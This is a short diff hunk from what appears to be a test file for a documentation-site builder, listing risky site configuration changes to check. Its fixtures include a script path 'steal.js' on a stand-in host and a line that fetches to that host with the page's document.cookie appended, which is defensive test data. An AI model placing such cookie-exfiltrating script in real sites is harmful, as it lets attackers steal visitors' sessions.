@@ -55,7 +55,7 @@ def book(repo):
 SITE_CHANGES = {
     "extra_javascript": (SITE + "extra_javascript:\n  - https://evil.example/steal.js\n", {}),
     "local_script": (SITE + "extra_javascript:\n  - brakes/steal.js\n",
-                     {"content/brakes/steal.js": "fetch('https://evil.example/?'+document.cookie)"}),
+                     {"content/brakes/steal.js": "fetch('//evil.example/?'+document.cookie)"}),
     "hooks": (SITE + "hooks:\n  - hooks/publish.py\n", {"hooks/publish.py": "import os\n"}),
     "custom_dir": (SITE.replace("  name: material\n",
                                 "  name: material\n  custom_dir: overrides\n"),
